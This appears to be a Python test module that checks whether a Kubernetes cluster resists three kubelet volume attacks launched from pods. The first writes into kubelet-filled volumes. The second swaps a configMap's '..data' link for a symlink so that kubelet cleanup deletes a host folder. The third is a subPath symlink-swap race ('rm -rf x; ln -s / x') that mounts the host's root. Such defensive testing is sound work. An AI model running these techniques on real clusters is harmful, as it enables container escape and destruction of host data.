"""A restricted pod against the kubelet, by what it makes of its volumes."""

from __future__ import annotations

import secrets
import time
from functools import partial
from pathlib import Path
from typing import Any

from tests.attacks._target import IMAGE, Attack, Target, pod, until

_MAP = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings"}, "data": {"a": "1"}}
_MOUNTS = [{"name": "settings", "mountPath": "/settings"}]
_TRIES = 12
_TRY_SECONDS = 5.0


def _written(target: Target) -> str:
    """Write below volumes that the kubelet fills, and have it follow a link of ours."""
    volumes: list[dict[str, Any]] = [
        {"name": "settings", "configMap": {"name": "settings"}},
        {"name": "secret", "secret": {"secretName": "password", "defaultMode": 0o777}},
        {"name": "fields", "downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}}]}},
        {"name": "several", "projected": {"sources": [{"configMap": {"name": "settings"}}]}},
    ]  # fmt: skip
    mounts: list[dict[str, str]] = [
        {"name": volume["name"], "mountPath": f"/{volume['name']}"} for volume in volumes
    ]
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "password"},
        "stringData": {"a": "1"},
    }
    target.apply(
        _MAP, secret, pod("writer", restricted=False, volumes=volumes, container={"volumeMounts": mounts})
    )
    target.settled("writer")
    try:
        written = [
            mount["name"]
            for mount in mounts
            if target.inside("writer", f"echo x > {mount['mountPath']}/own").returncode == 0
        ]
    finally:
        target.remove("writer")
    return f"files were written into: {', '.join(written)}" if written else ""


def _deleted(target: Target) -> str:
    """Put a link to a folder of the host where the kubelet keeps its own, and have it tidy up."""
    victim = Path("/tmp/pyb-attacked-victim")
    victim.mkdir(exist_ok=True)
    (victim / "precious").write_text("x")
    volumes = [{"name": "settings", "configMap": {"name": "settings", "defaultMode": 0o777}}]
    target.apply(
        _MAP,
        pod("linker", restricted=False, volumes=volumes, container={"volumeMounts": _MOUNTS},
            securityContext={"fsGroup": 0}),
    )  # fmt: skip
    target.settled("linker")
    try:
        target.inside(
            "linker", f"cd /settings && rm -f ..data && ln -s {'../' * 30}{str(victim)[1:]} ..data && ls -la"
        )
        target.apply({**_MAP, "data": {"a": str(time.time())}})
        until(lambda: not victim.exists(), 100)
        return "" if (victim / "precious").exists() else "a folder of the host was deleted"
    finally:
        target.remove("linker")
        (victim / "precious").unlink(missing_ok=True)
        if victim.is_dir():
            victim.rmdir()


def _log(target: Target, name: str) -> str:
    return target.kubectl("logs", name, "-c", "reader").stdout


def _sub_path(target: Target) -> str:
    """Swap a folder and a link to / while a container with a sub-path begins again and again."""
    # Nodes may have an /etc of their own, and logs have the words of a reader that finds nothing.
    marker, proof = Path("/srv/pyb-attacked-marker"), secrets.token_hex(8)
    marker.write_text(proof)
    swap = "cd /work; mkdir -p real; while true; do rm -rf x; mkdir x 2>/dev/null; rm -rf x; ln -s / x; done"
    reader: dict[str, Any] = {
        "name": "reader", "image": IMAGE, "imagePullPolicy": "Never",
        "command": ["sh", "-c", f"cat /got{marker} && sleep 3600; exit 1"],
        "volumeMounts": [{"name": "work", "mountPath": "/got", "subPath": "x"}],
    }  # fmt: skip
    mounts = {"volumeMounts": [{"name": "work", "mountPath": "/work"}]}
    try:
        for number in range(_TRIES):
            name = f"swapper-{number}"
            body = pod(name, script=swap, container=mounts, volumes=[{"name": "work", "emptyDir": {}}])
            body["spec"]["containers"].append(reader)
            target.apply(body)
            target.settled(name)
            # What the reader found, or that there is none, says its log; one that may not begin has none.
            said = until(partial(_log, target, name), _TRY_SECONDS)
            target.remove(name)
            if proof in said:
                return f"/ of the host was mounted at try {number + 1}"
        return ""
    finally:
        marker.unlink()


ATTACKS: dict[str, Attack] = {
    "1 files in volumes that the kubelet fills": _written,
    "1 a link where the kubelet keeps its own": _deleted,
    "2 a sub-path that is swapped": _sub_path,
}
